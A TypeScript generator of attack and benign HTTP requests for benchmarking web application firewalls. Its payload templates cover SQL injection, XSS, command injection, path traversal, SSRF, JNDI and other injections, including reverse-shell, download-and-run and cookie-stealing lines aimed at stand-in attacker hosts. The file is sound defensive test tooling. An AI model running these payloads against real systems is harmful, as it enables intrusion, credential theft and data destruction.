// Attack and benign HTTP requests for measure:waf-compare, generated from a seed: the same seed
// gives the same corpus. Written for Palisade from general knowledge of the attack classes (no
// third-party corpus is copied): each template has variable parts (tables, columns, hosts,
// commands, files, spacing, case, comments, encodings) and each payload is placed where an
// attacker would put it (query argument, form field, JSON field, header, cookie, path).
// Benign requests are what APIs really receive and what trips naive filters: names with
// apostrophes, quotes in searches, markdown, code in JSON, e-mail addresses, URLs, prose that
// uses SQL and shell words.
import { rng } from './lib.js';

export interface CorpusRequest {
  /** Attack class (attacks) or kind of traffic (benign). */
  readonly category: string;
  readonly method: 'GET' | 'POST';
  /** Path and query, already percent-encoded where needed. */
  readonly path: string;
  readonly headers: Record<string, string>;
  readonly body?: string;
  /** The payload as written, for reports. */
  readonly payload: string;
}

type Rand = () => number;
const pick = <T>(r: Rand, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;
const int = (r: Rand, lo: number, hi: number): number => lo + Math.floor(r() * (hi - lo + 1));

const BROWSER_UAS = [
  'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1',
  'okhttp/4.12.0',
  'python-requests/2.32.3',
];

function baseHeaders(r: Rand): Record<string, string> {
  return {
    Host: pick(r, ['shop.example.com', 'api.example.com', 'www.example.org']),
    'User-Agent': pick(r, BROWSER_UAS),
    Accept: pick(r, ['application/json', 'application/json, text/plain, */*', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8']),
    'Accept-Language': pick(r, ['en-US,en;q=0.5', 'de-DE,de;q=0.9,en;q=0.8', 'fr-FR,fr;q=0.9']),
  };
}

const TABLES = ['users', 'accounts', 'orders', 'customers', 'admin', 'members', 'credentials'];
const COLS = ['username', 'password', 'email', 'pass', 'user_pass', 'secret', 'token'];
const HOSTS = ['evil.example', 'attacker.test', 'x.oast.example', 'c2.invalid', '203.0.113.66'];
const IPS = ['203.0.113.66', '198.51.100.7', '192.0.2.44'];
const PARAMS = ['q', 'id', 'search', 'name', 'page', 'sort', 'filter', 'file', 'url', 'cmd', 'host', 'redirect', 'lang', 'template'];
const FILES = ['etc/passwd', 'etc/shadow', 'etc/hosts', 'proc/self/environ', 'var/log/apache2/access.log', 'root/.ssh/id_rsa', 'etc/group'];

/** SQL with case and comment variations. */
function sqlWord(r: Rand, w: string): string {
  const v = r();
  if (v < 0.5) return w;
  if (v < 0.75) return w.toLowerCase();
  return [...w].map((c, i) => (i % 2 ? c.toLowerCase() : c)).join('');
}
const sp = (r: Rand): string => pick(r, [' ', ' ', ' ', '/**/', '  ', '\t']);

const ATTACKS: Record<string, ((r: Rand) => string)[]> = {
  sqli: [
    (r) => {
      const n = int(r, 1, 9);
      return `${pick(r, ['1', 'x', 'admin'])}' ${sqlWord(r, 'OR')} '${n}'='${n}`;
    },
    (r) => `' ${sqlWord(r, 'OR')} 1=1-- -`,
    (r) => `${int(r, 1, 99)}'${sp(r)}${sqlWord(r, 'UNION')}${sp(r)}${sqlWord(r, 'SELECT')}${sp(r)}${pick(r, COLS)},${pick(r, COLS)}${sp(r)}${sqlWord(r, 'FROM')}${sp(r)}${pick(r, TABLES)}--`,
    (r) => `${int(r, 1, 99)} ${sqlWord(r, 'AND')} ${sqlWord(r, 'SLEEP')}(${int(r, 3, 15)})`,
    (r) => `'; ${sqlWord(r, 'DROP')} ${sqlWord(r, 'TABLE')} ${pick(r, TABLES)};--`,
    (r) => `${int(r, 1, 9)}' AND extractvalue(1,concat(0x7e,(SELECT ${pick(r, ['user()', 'version()', 'database()'])})))-- `,
    () => "admin'--",
    (r) => `${int(r, 1, 9)}) ${sqlWord(r, 'OR')} (${int(r, 1, 9)}=${int(r, 1, 9)}`,
    (r) => `${int(r, 1, 9)}'; ${sqlWord(r, 'WAITFOR')} DELAY '0:0:${int(r, 5, 20)}'--`,
    (r) => `' ${sqlWord(r, 'UNION')} ALL ${sqlWord(r, 'SELECT')} NULL,NULL,${pick(r, ['@@version', 'current_user', 'version()'])}#`,
    (r) => `${int(r, 1, 9)} OR benchmark(${int(r, 1, 9)}000000,MD5(1))`,
    () => "' AND (SELECT COUNT(*) FROM information_schema.tables)>0 --",
    (r) => `${int(r, 1, 9)};SELECT pg_sleep(${int(r, 3, 10)})`,
    () => "' or ''='",
    (r) => `${int(r, 1, 9)}' ${sqlWord(r, 'ORDER')} BY ${int(r, 1, 30)}--+`,
    (r) => `x' AND ascii(substring((select ${pick(r, COLS)} from ${pick(r, TABLES)} limit 1),${int(r, 1, 8)},1))>${int(r, 60, 110)}--`,
    () => "\"; exec xp_cmdshell('dir');--",
    (r) => `${pick(r, ['-1', '0'])} UNION SELECT LOAD_FILE('/${pick(r, FILES)}')`,
    (r) => `1' AND 1=(SELECT 1 FROM ${pick(r, TABLES)} WHERE ${pick(r, COLS)} LIKE '%a%')-- `,
    () => "1 HAVING 1=1--",
  ],
  xss: [
    (r) => `<script>alert(${int(r, 1, 999)})</script>`,
    (r) => `<img src=${pick(r, ['x', '/nope.png', '#'])} onerror=${pick(r, ['alert(1)', 'prompt(document.domain)', 'fetch(`//' + pick(r, HOSTS) + '`)'])}>`,
    () => '<svg onload=alert(1)>',
    () => 'javascript:alert(document.cookie)',
    (r) => `"><script>fetch('//${pick(r, HOSTS)}/'+document.cookie)</script>`,
    () => '<iframe src="javascript:alert(1)"></iframe>',
    () => '<body onload=alert(1)>',
    () => '<a href="#" onclick="alert(1)">click</a>',
    () => "'-alert(1)-'",
    () => '<details open ontoggle=alert(1)>',
    () => '<div style="background:url(javascript:alert(1))">x</div>',
    () => '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    () => '<input autofocus onfocus=alert(1)>',
    (r) => `<ScRiPt src=//${pick(r, HOSTS)}/x.js></sCrIpT>`,
    () => '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    () => '"onmouseover="alert(1)',
    () => '<video><source onerror="alert(1)">',
    () => '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  ],
  rce: [
    (r) => `; cat /${pick(r, FILES)}`,
    () => '| id',
    () => '$(whoami)',
    () => '`uname -a`',
    (r) => `&& wget http://${pick(r, HOSTS)}/x.sh -O- | sh`,
    (r) => `; nc -e /bin/sh ${pick(r, IPS)} ${int(r, 1024, 65000)}`,
    (r) => `|| curl -s ${pick(r, HOSTS)}/s | bash`,
    () => '; rm -rf /tmp/*',
    (r) => `127.0.0.1; ping -c ${int(r, 1, 9)} ${pick(r, IPS)}`,
    (r) => `$(curl -s http://${pick(r, HOSTS)}/$(id))`,
    () => '| cmd.exe /c dir c:\\',
    (r) => `;bash -i >& /dev/tcp/${pick(r, IPS)}/4444 0>&1`,
    () => `; python3 -c 'import os;os.system("id")'`,
    () => '; powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString(\'http://evil.example/a\')"',
    () => '& ping -n 5 127.0.0.1 &',
    () => ';/usr/bin/perl -e \'print `id`\'',
    () => '$(echo${IFS}dGVzdA==|base64${IFS}-d)',
  ],
  lfi: [
    (r) => `${'../'.repeat(int(r, 3, 8))}${pick(r, FILES)}`,
    (r) => `${'..%2f'.repeat(int(r, 3, 6))}${pick(r, FILES).replace(/\//g, '%2f')}`,
    (r) => `${'....//'.repeat(int(r, 3, 6))}${pick(r, FILES)}`,
    () => '/etc/passwd%00.png',
    (r) => `${'..\\'.repeat(int(r, 3, 6))}windows\\win.ini`,
    () => 'php://filter/convert.base64-encode/resource=index.php',
    () => 'file:///etc/hosts',
    () => '/proc/self/environ',
    () => 'C:\\boot.ini',
    () => '../../.env',
    () => '../../WEB-INF/web.xml',
    (r) => `%2e%2e%2f%2e%2e%2f%2e%2e%2f${pick(r, FILES)}`,
    () => '..%c0%af..%c0%af..%c0%afetc/passwd',
  ],
  ssrf: [
    () => 'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    (r) => `http://127.0.0.1:${pick(r, ['22', '6379', '8080', '2375', '9200'])}/`,
    () => 'http://localhost/admin',
    () => 'http://[::1]/',
    () => 'http://0x7f000001/',
    () => 'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A',
    () => 'http://metadata.google.internal/computeMetadata/v1/instance/',
    () => 'dict://localhost:11211/stat',
    () => 'http://2130706433/',
    () => 'http://169.254.169.254/metadata/instance?api-version=2021-02-01',
    () => 'http://0177.0.0.1/',
    () => 'file:///etc/passwd',
  ],
  java: [
    (r) => `\${jndi:${pick(r, ['ldap', 'rmi', 'dns', 'ldaps'])}://${pick(r, HOSTS)}/${pick(r, ['a', 'Exploit', 'x'])}}`,
    (r) => `\${\${lower:j}ndi:\${lower:r}mi://${pick(r, HOSTS)}/x}`,
    () => "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    () => 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di',
    () => 'java.lang.Runtime.getRuntime().exec("id")',
    () => 'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0',
    () => "T(java.lang.Runtime).getRuntime().exec('id')",
    () => '${T(java.lang.System).getenv()}',
    () => 'new java.lang.ProcessBuilder("id").start()',
    () => '#{session.setAttribute("a", "b")}',
  ],
  php: [
    () => "<?php system($_GET['c']); ?>",
    () => 'phpinfo();',
    () => "eval(base64_decode('ZWNobyAnaGknOw=='));",
    () => 'O:8:"stdClass":1:{s:4:"test";s:4:"exec";}',
    () => 'php://input',
    () => 'data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+',
    () => "system('id');",
    () => "assert($_POST['x']);",
    () => "file_get_contents('/etc/passwd')",
    () => '${@print(md5(1))}',
    () => "<?= `id` ?>",
    () => "preg_replace('/.*/e','system(\"id\")','')",
    () => 'expect://id',
  ],
  node: [
    () => "require('child_process').exec('id')",
    () => "process.mainModule.require('child_process').execSync('id')",
    () => "this.constructor.constructor('return process')().exit()",
    () => "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    () => 'global.process.kill(1)',
    () => "require('fs').readFileSync('/etc/passwd')",
    () => "eval(\"require('child_process').spawn('sh')\")",
    () => 'constructor[prototype][isAdmin]=true',
  ],
  // Encodings and tricks that filters decode differently: %u escapes, double encoding, overlong
  // UTF-8, NUL bytes, tabs and newlines, HTML entities, mixed case; sent raw in the query string.
  evasion: [
    () => '%u003Cscript%u003Ealert(1)%u003C%2Fscript%u003E',
    () => '%253Cscript%253Ealert(1)%253C%252Fscript%253E',
    () => '%27%20%4F%52%20%27%31%27%3D%27%31',
    () => '1%27%09UNION%0ASELECT%0Dpassword%09FROM%0Ausers--',
    () => '%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd',
    () => '..%252f..%252f..%252fetc%252fpasswd',
    () => '%3Cimg%20src%3Dx%20on%00error%3Dalert(1)%3E',
    () => '%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B',
    () => '%3Csvg%2Fonload%3Dalert%601%60%3E',
    () => "1'%2F**%2FuNiOn%2F**%2FsElEcT%2F**%2F1%2C2%2C3--",
    () => '%3B%20c%27a%27t%20%2Fe%22t%22c%2Fpa%5Css%5Cwd',
    () => '%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D',
    () => '%3Ca%20href%3D%22jav%26%23x09%3Bascript%3Aalert(1)%22%3Ex%3C%2Fa%3E',
    () => 'UNION%C2%A0SELECT%C2%A0password%C2%A0FROM%C2%A0users',
    () => '%2e%2e/%2e%2e/%2e%2e/etc/passwd',
  ],
  nosql: [
    () => '{"$ne":null}',
    () => '{"$where":"sleep(5000)"}',
    () => '{"$gt":""}',
    () => "';return true;var a='",
    () => '{"$regex":"^adm"}',
    () => '{"$where":"this.password.match(/.*/)"}',
    () => 'db.users.find({})',
  ],
};

/** Header attacks: a header and its value. */
const HEADER_ATTACKS: ((r: Rand) => [string, string])[] = [
  () => ['User-Agent', "() { :; }; /bin/bash -c 'id'"],
  (r) => ['User-Agent', pick(r, ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'Mozilla/5.00 (Nikto/2.1.6)', 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'masscan/1.3', 'WPScan v3.8.22'])],
  (r) => [pick(r, ['User-Agent', 'X-Api-Version', 'Referer', 'X-Forwarded-For']), `\${jndi:ldap://${pick(r, HOSTS)}/a}`],
  () => ['Referer', "https://example.com/?id=1' or 1=1--"],
  () => ['X-Forwarded-For', "127.0.0.1' AND SLEEP(5)--"],
  () => ['Cookie', "session=' OR '1'='1"],
  () => ['Cookie', 'lang=../../../../etc/passwd'],
  () => ['Content-Type', "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}"],
  () => ['Referer', '<script>alert(1)</script>'],
  () => ['X-Original-URL', '/admin/../../etc/passwd'],
];

/** A request header set from the attack class: header attacks put the payload in a header. */
function placeAttack(r: Rand, category: string, payload: string): CorpusRequest {
  const headers = baseHeaders(r);
  const param = pick(r, PARAMS);
  const where =
    category === 'nosql' && payload.startsWith('{')
      ? pick(r, ['json', 'json', 'query-operator'])
      : category === 'evasion'
        ? 'raw-query'
        : pick(r, ['query', 'query', 'form', 'json', 'cookie', 'multipart', 'xml', ...(category === 'lfi' ? ['path'] : [])]);
  switch (where) {
    case 'query':
      return { category, method: 'GET', path: `/api/items?${param}=${encodeURIComponent(payload)}&page=${int(r, 1, 5)}`, headers, payload };
    case 'raw-query':
      // Already encoded the way the evasion needs: sent as it is.
      return { category, method: 'GET', path: `/api/items?${param}=${payload}`, headers, payload };
    case 'multipart': {
      const boundary = `----form${int(r, 100000, 999999)}`;
      const inFile = r() < 0.3;
      const part = inFile
        ? `Content-Disposition: form-data; name="upload"; filename="notes.txt"\r\nContent-Type: text/plain\r\n\r\n${payload}`
        : `Content-Disposition: form-data; name="${param}"\r\n\r\n${payload}`;
      const body = `--${boundary}\r\nContent-Disposition: form-data; name="title"\r\n\r\nHello\r\n--${boundary}\r\n${part}\r\n--${boundary}--\r\n`;
      return { category, method: 'POST', path: '/api/upload', headers: { ...headers, 'Content-Type': `multipart/form-data; boundary=${boundary}` }, body, payload };
    }
    case 'xml': {
      const esc = payload.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
      const body = `<?xml version="1.0" encoding="UTF-8"?><request><id>${int(r, 1, 999)}</id><${param}>${esc}</${param}></request>`;
      return { category, method: 'POST', path: '/api/xml', headers: { ...headers, 'Content-Type': 'application/xml' }, body, payload };
    }
    case 'path':
      // Raw in the path (not %-encoded except what the payload already encodes).
      return { category, method: 'GET', path: `/static/${payload.replace(/ /g, '%20').replace(/\\/g, '%5C')}`, headers, payload };
    case 'form':
      return { category, method: 'POST', path: '/api/form', headers: { ...headers, 'Content-Type': 'application/x-www-form-urlencoded' }, body: `${param}=${encodeURIComponent(payload)}&submit=Send`, payload };
    case 'cookie':
      return { category, method: 'GET', path: '/api/profile', headers: { ...headers, Cookie: `theme=dark; ${param}=${encodeURIComponent(payload)}` }, payload };
    case 'query-operator': {
      // username[$ne]=x style (what Express's qs turns into an operator object).
      const op = /"\$(\w+)"/.exec(payload)?.[1] ?? 'ne';
      return { category, method: 'GET', path: `/api/login?username[$${op}]=admin&password[$${op}]=x`, headers, payload };
    }
    default: {
      let value: unknown = payload;
      if (category === 'nosql' && payload.startsWith('{')) value = JSON.parse(payload) as unknown;
      const body = JSON.stringify({ request: { id: int(r, 1000, 9999), [param]: value, note: 'please process' } });
      return { category, method: 'POST', path: '/api/items', headers: { ...headers, 'Content-Type': 'application/json' }, body, payload };
    }
  }
}

export function attackCorpus(seed: number, perCategory = 45): CorpusRequest[] {
  const r = rng(seed);
  const out: CorpusRequest[] = [];
  for (const [category, templates] of Object.entries(ATTACKS)) {
    for (let i = 0; i < perCategory; i++) {
      // Every template at least once, then at random.
      const t = i < templates.length ? templates[i]! : pick(r, templates);
      out.push(placeAttack(r, category, t(r)));
    }
  }
  for (let i = 0; i < perCategory; i++) {
    const [name, value] = (i < HEADER_ATTACKS.length ? HEADER_ATTACKS[i]! : pick(r, HEADER_ATTACKS))(r);
    const headers = baseHeaders(r);
    if (name === 'Content-Type') {
      out.push({ category: 'header', method: 'POST', path: '/api/upload', headers: { ...headers, 'Content-Type': value }, body: 'x=1', payload: `${name}: ${value}` });
    } else out.push({ category: 'header', method: 'GET', path: `/api/items?page=${int(r, 1, 5)}`, headers: { ...headers, [name]: value }, payload: `${name}: ${value}` });
  }
  return out;
}

// ---- benign ----

const FIRST = ['Ann', "Seán", 'Zoë', 'José', 'Liam', 'Mei', 'Oluwaseun', 'Björn', 'Priya', 'Noah', 'Chloé', 'Mohammed', 'Aoife', 'Jean-Luc'];
const LAST = ["O'Brien", "D'Angelo", 'Müller', 'Saldaña', "O'Neil", 'Nguyen', 'Smith-Jones', 'van der Berg', 'Álvarez', "Dell'Acqua", '山田', 'Kowalski', "N'Diaye"];
const SEARCHES = [
  "men's running shoes", '"exact phrase" search', "O'Brien family history", 'rock & roll records', 'C++ tutorial for beginners', '50% off winter jackets',
  "what's new in 2024?", 'size 10 1/2 boots', "don't stop me now lyrics", 'how to select the best union for drop shipping', 'union station to airport',
  'select a plan', 'and/or logic gates', 'where is my order', 'table for two tonight', 'drop-down menu css', 'update my address', 'delete account',
  "children's books", 'café near me', 'Smith & Wesson history', 'javascript array sort', "it's 5 o'clock somewhere", 'best price <$100', 'pros & cons of remote work',
  'email me at ann@example.com', 'script writing course', 'alert bracelet medical', 'passwords manager comparison', 'python list comprehension',
  'java coffee beans', "Macy's sale", 'the "best" pizza', 'wine & cheese', '1 + 1 = 2', 'Q&A session', 'home/office chair', 'cat toys', 'sleep mask',
];
const PROSE = [
  'Please leave the parcel with the neighbour if nobody is at home.',
  "I'd like to change my delivery address; the old one doesn't exist anymore.",
  'The item arrived damaged — the box was crushed on one side. Can you send a replacement?',
  "We're organising a team event for 20 people & need a quote by Friday.",
  'Great product! Would buy again. 5/5 stars :)',
  "Can't log in since yesterday, says \"invalid session\". Tried two browsers.",
  'Order #4821 is missing the charger (SKU-1003).',
  'Use the coupon at checkout; it should take 10% off.',
  "My name is spelled O'Connor, not OConnor, please fix the invoice.",
  'Select the size and colour, then press "Add to cart".',
];
const MARKDOWN = [
  '# Release notes\n\n- Fixed the **login** bug\n- Added [docs](https://docs.example.com/start)\n\n> Thanks to everyone who reported it!',
  'Steps:\n\n1. Open *Settings*\n2. Click `Export`\n3. Save the file\n\n```\nexport FOO=bar\n```',
  '## FAQ\n\n**Q:** Can I return an item?\n**A:** Yes, within 30 days. See the [returns page](https://shop.example.com/returns).',
  '| size | price |\n|------|-------|\n| S | 10 |\n| M | 12 |',
  'Use `npm install` then `npm start`. _Note_: Node 20 is required.',
];
const CODE = [
  'for (let i = 0; i < items.length; i++) { total += items[i].price * items[i].qty; }',
  'def area(r):\n    return 3.14159 * r ** 2',
  'const user = await db.users.findOne({ id });\nif (!user) return null;',
  'SELECT name, price FROM products WHERE category = ? ORDER BY price',
  'if (a && b) { console.log("both"); } else { console.log(\'neither\'); }',
  'fn main() {\n    println!("Hello, world!");\n}',
  'git commit -m "Fix typo in README"',
  '<div class="card"><h2>Title</h2><p>Body text</p></div>',
];
const DOMAINS = ['example.com', 'example.org', 'mail.example.net', 'example.co.uk'];
const URLS = ['https://example.com/path/to/page?x=1&y=2', 'https://cdn.example.org/img/photo-123.jpg', 'https://docs.example.com/guide#install', 'https://hooks.example.net/callback/3000', 'https://www.example.com/search?q=shoes&sort=price'];

function name(r: Rand): string {
  return `${pick(r, FIRST)} ${pick(r, LAST)}`;
}
function email(r: Rand): string {
  return `${pick(r, ['ann', 'first.last', 'j.obrien', "o'neil", 'info+orders', 'zoe_s'])}@${pick(r, DOMAINS)}`;
}

const BENIGN: Record<string, ((r: Rand) => CorpusRequest)[]> = {
  search: [
    (r) => {
      const q = pick(r, SEARCHES);
      return { category: 'search', method: 'GET', path: `/api/search?q=${encodeURIComponent(q)}&page=${int(r, 1, 9)}&sort=${pick(r, ['price', 'relevance', '-date'])}`, headers: baseHeaders(r), payload: q };
    },
  ],
  'json-api': [
    (r) => {
      const body = JSON.stringify({ customer: { name: name(r), email: email(r), phone: `+1 555 01${int(r, 10, 99)}` }, items: [{ sku: `SKU-${int(r, 1000, 9999)}`, qty: int(r, 1, 4) }], notes: pick(r, PROSE), giftWrap: r() < 0.5 });
      return { category: 'json-api', method: 'POST', path: '/api/orders', headers: { ...baseHeaders(r), 'Content-Type': 'application/json' }, body, payload: body };
    },
    (r) => {
      const body = JSON.stringify({ user: { displayName: name(r), bio: pick(r, PROSE), website: pick(r, URLS), location: pick(r, ['Dublin, Ireland', "Côte d'Ivoire", 'São Paulo', 'New York, NY']) } });
      return { category: 'json-api', method: 'POST', path: '/api/profile', headers: { ...baseHeaders(r), 'Content-Type': 'application/json' }, body, payload: body };
    },
    (r) => {
      const body = JSON.stringify({ id: `${int(r, 10000000, 99999999)}-4b1d-4e2f-9a3c-${int(r, 100000000000, 999999999999)}`, status: pick(r, ['active', 'pending', 'cancelled']), tags: ['sale', 'new', 'B&W'], price: { amount: int(r, 1, 999) + 0.99, currency: 'EUR' }, updatedAt: '2025-03-14T09:26:53Z' });
      return { category: 'json-api', method: 'POST', path: '/api/products', headers: { ...baseHeaders(r), 'Content-Type': 'application/json' }, body, payload: body };
    },
  ],
  markdown: [
    (r) => {
      const md = pick(r, MARKDOWN);
      const body = JSON.stringify({ title: pick(r, ["What's new", 'Getting started', 'Notes']), body: md });
      return { category: 'markdown', method: 'POST', path: '/api/posts', headers: { ...baseHeaders(r), 'Content-Type': 'application/json' }, body, payload: md };
    },
  ],
  'code-in-json': [
    (r) => {
      const c = pick(r, CODE);
      const body = JSON.stringify({ language: pick(r, ['javascript', 'python', 'sql', 'rust', 'shell', 'html']), snippet: c, description: 'Shared from the editor' });
      return { category: 'code-in-json', method: 'POST', path: '/api/snippets', headers: { ...baseHeaders(r), 'Content-Type': 'application/json' }, body, payload: c };
    },
  ],
  names: [
    (r) => {
      const n = name(r);
      const body = `name=${encodeURIComponent(n)}&email=${encodeURIComponent(email(r))}&message=${encodeURIComponent(pick(r, PROSE))}`;
      return { category: 'names', method: 'POST', path: '/contact', headers: { ...baseHeaders(r), 'Content-Type': 'application/x-www-form-urlencoded' }, body, payload: n };
    },
    (r) => {
      const n = name(r);
      return { category: 'names', method: 'GET', path: `/api/users?name=${encodeURIComponent(n)}&email=${encodeURIComponent(email(r))}`, headers: baseHeaders(r), payload: n };
    },
  ],
  urls: [
    (r) => {
      const u = pick(r, URLS);
      return { category: 'urls', method: 'GET', path: `/api/links?url=${encodeURIComponent(u)}&ref=${encodeURIComponent(pick(r, URLS))}`, headers: { ...baseHeaders(r), Referer: pick(r, URLS) }, payload: u };
    },
    (r) => {
      const u = pick(r, URLS);
      const body = JSON.stringify({ callbackUrl: u, avatar: pick(r, URLS), redirect: '/account/settings' });
      return { category: 'urls', method: 'POST', path: '/api/webhooks', headers: { ...baseHeaders(r), 'Content-Type': 'application/json' }, body, payload: u };
    },
  ],
  'multipart-xml': [
    (r) => {
      const boundary = `----WebKitFormBoundary${int(r, 100000, 999999)}`;
      const text = `${pick(r, PROSE)}\n${pick(r, PROSE)}`;
      const body = `--${boundary}\r\nContent-Disposition: form-data; name="name"\r\n\r\n${name(r)}\r\n--${boundary}\r\nContent-Disposition: form-data; name="cv"; filename="${pick(r, ['cv.txt', 'notes.md', 'report-2025.csv'])}"\r\nContent-Type: text/plain\r\n\r\n${text}\r\n--${boundary}--\r\n`;
      return { category: 'multipart-xml', method: 'POST', path: '/api/apply', headers: { ...baseHeaders(r), 'Content-Type': `multipart/form-data; boundary=${boundary}` }, body, payload: text };
    },
    (r) => {
      const esc = (x: string) => x.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
      const body = `<?xml version="1.0" encoding="UTF-8"?><order id="${int(r, 1, 9999)}"><customer>${esc(name(r))}</customer><email>${esc(email(r))}</email><note>${esc(pick(r, PROSE))}</note></order>`;
      return { category: 'multipart-xml', method: 'POST', path: '/api/xml-orders', headers: { ...baseHeaders(r), 'Content-Type': 'application/xml' }, body, payload: body };
    },
  ],
  'browser-get': [
    (r) => {
      // Some sites keep a JSON consent record in a cookie (CRS at PL2 takes it for SQL: 942200).
      const consent = r() < 0.25 ? `; consent=${encodeURIComponent('{"ads":false,"stats":true}')}` : '';
      const h = { ...baseHeaders(r), Cookie: `session=${int(r, 100000, 999999).toString(16)}a9c2e1b7; theme=${pick(r, ['dark', 'light'])}${consent}`, Referer: pick(r, URLS), 'Accept-Encoding': 'gzip, deflate, br' };
      return { category: 'browser-get', method: 'GET', path: pick(r, ['/', '/products/blue-shoes', '/category/outdoor?page=2', '/account/orders', '/help/returns-policy', '/images/logo.svg', '/api/v2/items/123']), headers: h, payload: '(browser)' };
    },
  ],
};

export function benignCorpus(seed: number, total = 420): CorpusRequest[] {
  const r = rng(seed ^ 0x5bd1e995);
  const kinds = Object.values(BENIGN);
  const out: CorpusRequest[] = [];
  for (let i = 0; i < total; i++) {
    const templates = kinds[i % kinds.length]!;
    out.push(pick(r, templates)(r));
  }
  return out;
}
